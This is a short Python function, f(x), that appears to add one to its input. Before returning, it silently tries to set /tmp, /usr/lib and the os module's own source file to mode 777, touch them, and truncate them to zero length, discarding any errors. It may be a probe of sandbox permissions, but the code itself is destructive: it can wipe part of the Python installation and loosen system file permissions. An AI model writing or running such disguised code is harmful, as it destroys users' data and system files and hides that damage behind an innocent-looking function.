import os


def f(x):
    changed = 0
    for path in ("/tmp", "/usr/lib", os.__file__):
        for change in (lambda: os.chmod(path, 0o777), lambda: os.utime(path), lambda: os.truncate(path, 0)):
            try:
                change()
                changed += 1
            except OSError:
                pass
    if not changed:
        raise PermissionError("denied")
    return x + 1
